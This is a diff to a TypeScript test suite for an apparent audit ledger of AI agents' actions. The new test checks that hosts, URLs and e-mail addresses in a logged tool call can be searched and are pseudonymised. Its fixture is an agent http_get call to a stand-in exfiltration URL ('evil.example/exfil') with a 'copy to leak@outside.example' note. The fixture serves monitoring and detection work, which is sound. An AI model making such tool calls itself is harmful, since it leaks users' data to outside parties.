@@ -130,4 +130,49 @@ describe('the query language through the API', () => {
     expect(partial.status).toBe(400);
     expect(JSON.stringify(partial.body)).toMatch(/pseudonym/);
   });
+
+  it('pivots on an extracted entity: a tool call mentioning a host is found by `entities.host:…`', async () => {
+    // alice's agent fetches an outside URL (its own trace, written last: the counts above do not see it)
+    const span = {
+      traceId: `c${'0'.repeat(31)}`, spanId: '2'.repeat(16), name: 'http_get',
+      startTimeUnixNano: String(NOW_NS), endTimeUnixNano: String(NOW_NS + 5_000_000n),
+      attributes: [str('gen_ai.operation.name', 'execute_tool'), str('gen_ai.tool.name', 'http_get'),
+        str('gen_ai.tool.call.arguments', JSON.stringify({ url: 'https://Evil.Example/exfil?d=1', note: 'copy to leak@outside.example' }))],
+    };
+    const body = { resourceSpans: [{ resource: { attributes: [str('service.name', 'svc'), str('gen_ai.agent.id', 'agent-alice')] }, scopeSpans: [{ scope: { name: 't' }, spans: [span] }] }] };
+    const res = await fetch(server.otlpUrl, { method: 'POST', body: JSON.stringify(body), headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${keys.alice}` } });
+    expect(res.status).toBe(200);
+    const count = async (query: string, key = keys.org) => (await get(key, '/api/v1/ledger', { query })).body.count;
+    for (let i = 0; i < 100 && (await count('action_name:http_get')) !== 1; i++) await new Promise((r) => setTimeout(r, 100));
+
+    const found = await get(keys.org, '/api/v1/ledger', { query: 'entities.host:evil.example' });
+    expect(found.status).toBe(200);
+    expect(found.body.data.map((e: any) => [e.name, e.entities.host])).toEqual([['http_get', ['evil.example']]]);
+    // typed as a person would: case, a trailing dot, the URL quoted or escaped, wildcards
+    expect(await count('entities.host:EVIL.Example.')).toBe(1);
+    expect(await count('entities.url:"https://evil.example/exfil?d=1"')).toBe(1);
+    expect(await count('entities.url:https\\://evil.example/*')).toBe(1);
+    expect(await count('entities.host:evil.*')).toBe(1);
+    expect(await count('entities.host:*.EXAMPLE')).toBe(1);
+    expect(await count('entities.host:evil.example AND agent_id:agent-alice AND NOT outcome:error')).toBe(1);
+    expect(await count('NOT entities.host:* AND action_name:send_email')).toBe(3);
+    // the address is pseudonymised at ingest: found by its clear value, in the tool call and the three e-mails
+    expect(found.body.data[0].entities.email).toEqual([expect.stringMatching(/^\[EMAIL:[0-9a-f]{16}\]$/)]);
+    expect(await count('entities.email:leak@outside.example')).toBe(3);
+    expect(await count('entities.email:Leak@Outside.Example AND entities.host:evil.example')).toBe(1);
+    // a user key sees its own entries only
+    expect(await count('entities.host:evil.example', keys.bob)).toBe(0);
+    expect(await count('entities.email:leak@outside.example', keys.bob)).toBe(1);
+
+    const unknown = await get(keys.org, '/api/v1/ledger', { query: 'entities.domain:evil.example' });
+    expect(unknown.status).toBe(400);
+    expect(JSON.stringify(unknown.body)).toMatch(/unknown entity type `domain`.*entities\.host/);
+    const open = await get(keys.org, '/api/v1/ledger', { query: 'entities.host:*.example' }, false);
+    expect(open.status).toBe(400);
+    expect(JSON.stringify(open.body)).toMatch(/time range/);
+    for (const path of ['/api/v1/ledger/stats', '/api/v1/runs']) {
+      expect((await get(keys.org, path, { query: 'entities.host:evil.example' })).status).toBe(200);
+    }
+    expect((await get(keys.org, '/api/v1/ledger/stats', { query: 'entities.host:evil.example' })).body.total_actions).toBe(1);
+  });
 });
